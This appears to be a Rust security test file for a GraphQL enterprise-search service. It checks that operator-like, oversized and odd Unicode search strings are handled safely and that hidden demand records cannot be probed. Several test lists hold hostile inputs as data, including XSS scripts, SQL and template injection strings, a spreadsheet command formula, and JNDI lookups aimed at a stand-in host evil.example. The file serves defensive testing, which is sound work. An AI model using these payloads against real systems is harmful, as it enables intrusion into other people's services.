//! Group 4, texts: what looks like an operator, what is very long, what only looks like letters, and
//! what would be a script in somebody else's page. All of it is text: found, stored and shown as such.

use serde_json::{Value, json};

use super::attack::{Fort, JSON, Trials};

const SEARCH: &str = "query($t: String!) { search(text: $t, first: 20) { totalCount edges { highlights { field text ranges { start end } } node { id nameZh } } } }";

/// Hits, or a refusal with a code; never a failure of the service.
fn search(fort: &Fort, what: &str, text: &str) -> Value {
    let heard = fort.stands(what, |fort| fort.ask_with(SEARCH, &json!({ "t": text })));
    assert!(heard.status == 200 || (400..500).contains(&heard.status), "{what}: {} {}", heard.status, heard.body);
    let answer = heard.json();
    if answer.get("errors").is_some() {
        heard.assert_refused(what);
    }
    for edge in answer["data"]["search"]["edges"].as_array().into_iter().flatten() {
        for highlight in edge["highlights"].as_array().into_iter().flatten() {
            let units: Vec<u16> = highlight["text"].as_str().expect("text").encode_utf16().collect();
            for range in highlight["ranges"].as_array().expect("ranges") {
                let place = |name: &str| usize::try_from(range[name].as_u64().expect("a place")).expect("small");
                let marked = units.get(place("start")..place("end")).unwrap_or_else(|| panic!("{what}: {highlight}"));
                assert!(
                    !marked.is_empty() && String::from_utf16(marked).is_ok(),
                    "{what}: half a character: {highlight}"
                );
            }
        }
    }
    answer["data"]["search"].clone()
}

#[test]
fn nothing_in_a_text_is_an_operator() {
    let fort = Fort::new();
    let mut trials = Trials::default();
    let all = search(&fort, "a name", "示例")["totalCount"].as_u64().expect("a count");
    assert!(all > 10, "{all}");
    for text in [
        "*",
        "?*?*",
        "*:*",
        "示*",
        "/(a+)+$/",
        "/.*/",
        "a~2",
        "a~2 b~2 c~2 d~2 e~2",
        "[* TO *]",
        "{a TO z}",
        "nameZh:*",
        "nameZh:示例",
        "\"a b\"~999999999",
        "示例^1e30",
        "AND",
        "OR NOT",
        "NOT 示例",
        "+示例 -示例",
        "!示例",
        "(示例",
        "示例)",
        "\\",
        "\"",
        "'",
        "' OR '1'='1",
        "%",
        "_",
        "%%%",
        "[a-z",
        "(?i)示例",
        "$where",
        "${jndi:ldap://x/a}",
        "{{7*7}}",
        ";",
        "--",
    ] {
        trials.of(text, || {
            let found = search(&fort, text, text);
            // Nothing that is not in a text may find everything.
            let count = found["totalCount"].as_u64().unwrap_or(0);
            assert!(count < all || text.contains("示例"), "{text} finds {count}");
        });
    }
    let cpu =
        fort.cpu_of(20, |fort| drop(fort.ask_with(SEARCH, &json!({ "t": "a~2 b~2 c~2 d~2 e~2 /(a+)+$/ [* TO *]" }))));
    println!("operators: {cpu:?} of processor time");
    assert!(cpu <= std::time::Duration::from_millis(50) * super::attack::SLOWER, "{cpu:?}");
}

#[test]
fn long_texts_are_refused_and_odd_ones_find_nothing() {
    let fort = Fort::new();
    let mut trials = Trials::default();
    for (what, text) in [
        ("5,000 parentheses", "(".repeat(5_000)),
        ("250 parentheses", "(".repeat(250)),
        ("10,000 terms with OR", "a OR ".repeat(10_000)),
        ("2,000 terms with AND", "a AND ".repeat(2_000)),
        ("128 letters", "a ".repeat(128)),
        ("10,000 characters", "新".repeat(10_000)),
        ("50,000 characters", "新".repeat(50_000)),
        ("256 characters", "新".repeat(256)),
        ("257 characters", "新".repeat(257)),
        ("a letter with 255 marks", format!("e{}", "\u{301}".repeat(255))),
        ("zalgo", "z\u{338}\u{321}\u{489}\u{36f}".repeat(60)),
        ("joiners", "\u{200d}".repeat(256)),
        ("a family", "👨\u{200d}👩\u{200d}👧\u{200d}👦".repeat(30)),
        ("right to left", "\u{202e}\u{2067}示例\u{2069}\u{202c}".to_owned()),
        ("private use", "\u{e000}\u{f8ff}\u{f0000}".to_owned()),
        ("astral", "𠮷𪚥𝒳".to_owned()),
        ("not a character", "\u{ffff}\u{1fffe}\u{fdd0}".to_owned()),
        ("a NUL", "示\0例".to_owned()),
        ("controls", "\u{1}\u{7f}\u{85}\u{9b}".to_owned()),
        ("no letter at all", "\u{200b}\u{feff}\u{ad}".to_owned()),
        ("what grows when it is folded", "ﷺ".repeat(256)),
        ("ligatures", "ﬃ".repeat(256)),
        ("Hangul in parts", "ᄒ\u{1161}\u{11ab}".repeat(80)),
    ] {
        trials.of(what, || {
            let cpu = fort.cpu();
            let found = search(&fort, what, &text);
            println!("{what}: {:?} of processor time", fort.cpu() - cpu);
            if text.chars().count() > 256 {
                assert_eq!(found, Value::Null, "{what} is too long");
            }
            let suggested = fort.ask_with("query($t: String!) { suggest(text: $t) { text } }", &json!({ "t": text }));
            assert!(suggested.status < 500, "{what}: {suggested:?}");
            let wish = fort.ask_with(
                "query($t: String!) { partners(for: {text: $t}, first: 3) { totalCount } }",
                &json!({ "t": text }),
            );
            assert!(wish.status < 500, "{what}: {wish:?}");
            let filter = fort.ask_with(
                "query($t: String!) { organizations(filter: {nameContains: $t}, first: 3) { totalCount } }",
                &json!({ "t": text }),
            );
            assert!(filter.status < 500, "{what}: {filter:?}");
        });
    }
    let heard = fort.stands("100,000 characters", |fort| fort.ask_with(SEARCH, &json!({ "t": "新".repeat(100_000) })));
    heard.assert_status("100,000 characters", &[413, 0]);
}

/// Write as the administrator; the answer's data.
fn write(fort: &Fort, query: &str, variables: &Value) -> Value {
    let lines = fort.authorization() + JSON;
    let body = json!({ "query": query, "variables": variables }).to_string();
    let heard = fort.send("POST", "/graphql", &lines, body.as_bytes());
    let answer = heard.json();
    assert!(answer.get("errors").is_none(), "{heard:?}");
    answer["data"].clone()
}

/// Enter a source and a firm of this name; the firm's id, or none where it was refused.
fn enter(fort: &Fort, key: &str, name: &str) -> Option<String> {
    let source = "mutation($i: SourceInput!) { saveSource(input: $i) { __typename } }";
    let input = json!({ "key": format!("src-{key}"), "kind": "NEWS", "issuer": "示例报", "title": "示例报道", "grade": "A", "address": "https://a.example/1" });
    assert_eq!(write(fort, source, &json!({ "i": input }))["saveSource"]["__typename"], "Written");
    let firm = "mutation($i: EnterpriseInput!) { saveEnterprise(input: $i) { __typename ... on Written { id } } }";
    let input = json!({ "key": format!("ent-{key}"), "nameZh": name, "unknown": ["legalForm", "status", "isLegalPerson"], "source": format!("src-{key}") });
    write(fort, firm, &json!({ "i": input }))["saveEnterprise"]["id"].as_str().map(str::to_owned)
}

/// Ids found for a text, the search index having come to all that was written.
fn found(fort: &Fort, text: &str) -> Vec<String> {
    let query =
        "query($t: String!, $n: Int!) { search(text: $t, first: 50, minSequence: $n) { edges { node { id } } } }";
    let answer = fort.ask_with(query, &json!({ "t": text, "n": fort.sequence() })).json();
    let edges = answer["data"]["search"]["edges"].as_array().unwrap_or_else(|| panic!("{text}: {answer}")).clone();
    edges.iter().map(|edge| edge["node"]["id"].as_str().expect("an id").to_owned()).collect()
}

#[test]
fn what_looks_the_same_is_found_the_same() {
    let fort = Fort::new();
    let wide = enter(&fort, "wide", "示例ＡＢＣ－Ⅹ（测试）有限公司").expect("written");
    let plain = enter(&fort, "plain", "示例XYZ-Ⅱ科技有限公司").expect("written");
    for (text, id) in [
        ("ABC-X", &wide),
        ("ＡＢＣ", &wide),
        ("abc", &wide),
        ("(测试)", &wide),
        ("（测试）", &wide),
        ("ＸＹＺ", &plain),
        ("xyz-II", &plain),
        ("xyz-ⅱ", &plain),
    ] {
        assert!(found(&fort, text).contains(id), "{text}");
    }
    // What only looks alike is somebody else.
    assert!(!found(&fort, "示例ΑΒС").contains(&wide), "Greek and Cyrillic letters are not Latin ones");
}

#[test]
fn scripts_are_stored_and_shown_as_text() {
    let fort = Fort::new();
    let mut trials = Trials::default();
    let scripts = [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "';alert(1);//",
        "</title><script>alert(1)</script>",
        "javascript:alert(1)",
        "${jndi:ldap://evil.example/a}",
        "{{constructor.constructor('alert(1)')()}}",
        "#{7*7}",
        "<%= 7*7 %>",
        "=cmd|' /C calc'!A0",
        "\u{2028}alert(1)",
    ];
    for (place, script) in scripts.into_iter().enumerate() {
        trials.of(script, || {
            let name = format!("示例{script}有限公司");
            // What may stand in a name is the domain's affair; what was taken comes back as it was.
            let Some(id) = enter(&fort, &format!("x{place}"), &name) else { return };
            let answer = fort.ask(&format!("{{ node(id: \"{id}\") {{ nameZh }} }}"));
            let (shown, kind) = (answer.json()["data"]["node"]["nameZh"].clone(), answer.header("content-type"));
            assert_eq!(shown.as_str().map(str::trim), Some(name.trim()), "{script}");
            assert!(kind.as_deref().is_some_and(|kind| kind.contains("json")), "{kind:?}");
            assert_eq!(answer.header("x-content-type-options").as_deref(), Some("nosniff"), "{script}");
            search(&fort, script, script);
        });
    }
    for path in ["/", "/playground", "/playground/examples.json", "/readyz"] {
        let heard = fort.send("GET", path, "", b"");
        assert!(heard.status == 200 && !heard.body.contains("alert(1)"), "{path}: {}", heard.status);
    }
    // What is refused says back what was asked for as text of JSON, not as a page.
    let heard = fort.ask_with(
        "query($t: String!) { organization(by: {name: $t}) { ... on Nothing { id } } }",
        &json!({ "t": scripts[0] }),
    );
    assert!(heard.header("content-type").is_some_and(|kind| kind.contains("json")), "{heard:?}");
    // A banner is the operator's, and still only text.
    let fort = Fort::with(&[("banner", "<script>alert(1)</script>")]);
    for path in ["/", "/playground"] {
        assert!(!fort.send("GET", path, "", b"").body.contains("<script>alert(1)"), "{path}");
    }
}

#[test]
fn nobody_writes_lines_of_the_log() {
    let fort = Fort::with(&[("log", "trace")]);
    let forged = "2099-01-01T00:00:00Z ERROR forged";
    let asked = 30;
    for place in 0..asked {
        let text = format!("\u{1b}[2J\r\n{forged}\n\u{2028}${{jndi:ldap://evil.example/{place}}}");
        fort.ask_with(SEARCH, &json!({ "t": text }));
        fort.ask(&format!("{{ organization(by: {{name: \"\"\"{text}\"\"\"}}) {{ id }} }}"));
        fort.post(format!("{{\"query\": \"{{__typename}}\", \"operationName\": \"{text}\"}}").as_bytes());
        fort.send("GET", "/nowhere%0d%0a2099-01-01T00:00:00Z%20ERROR%20forged%1b", "", b"");
        fort.send(
            "POST",
            "/graphql",
            &format!("{JSON}Authorization: Bearer {forged}\r\nUser-Agent: \u{9}{forged}\r\n"),
            b"{}",
        );
    }
    let log = fort.log();
    println!("{} lines for {} requests", log.lines().count(), asked * 5);
    assert!(log.lines().count() > 1, "nothing was logged at all");
    let is_object = |line: &str| serde_json::from_str::<Value>(line).is_ok_and(|line| line.is_object());
    let broken: Vec<&str> = log.lines().filter(|line| !is_object(line) || line.contains('\u{1b}')).collect();
    assert!(broken.is_empty(), "{} lines are no lines of the log: {:?}", broken.len(), broken.first());
}

#[test]
fn what_may_not_be_read_cannot_be_found_out_by_asking() {
    let fort = Fort::new();
    // dem-fuqi is for the bureau alone: neither its words nor its name nor its number find anything.
    let answer = |query: &str, variables: &Value| fort.ask_with(query, variables).json()["data"].to_string();
    for text in ["某厂含氟废气超低排放应急改造（示例）", "含氟废气", "dem-fuqi", "两级碱洗"] {
        let other = format!("{}〇", text.chars().rev().collect::<String>());
        for query in [
            "query($t: String!) { search(text: $t, kinds: [DEMAND]) { totalCount facets { count } edges { node { id } } } }",
            "query($t: String!) { suggest(text: $t, kinds: [DEMAND]) { text } }",
            "query($t: String!) { demands(filter: {nameContains: $t}) { totalCount edges { node { id } } } }",
            "query($t: String!) { demands(filter: {problem: $t}) { totalCount } }",
            "query($t: String!) { demands(filter: {not: {not: {nameContains: $t}}}) { totalCount } }",
            "query($t: String!) { demand(by: {code: $t}) { id } }",
            "query($t: String!) { partners(for: {demand: {code: $t}}) { totalCount } }",
        ] {
            let (hidden, nobody) = (answer(query, &json!({ "t": text })), answer(query, &json!({ "t": other })));
            assert_eq!(hidden, nobody, "{text}: {query}");
        }
    }
    for query in [
        "{ organizations(filter: {recordedBy: \"door\"}) { totalCount } }",
        "{ organizations(orderBy: RECORDED_BY) { totalCount } }",
        "{ demands(filter: {visibility: [BUREAU_ONLY]}) { edges { node { id } } } }",
    ] {
        let answer = fort.ask(query).json();
        let edges = answer["data"]["demands"]["edges"].as_array().map_or(0, Vec::len);
        assert!(answer.get("errors").is_some() || edges == 0, "{query}: {answer}");
    }
}
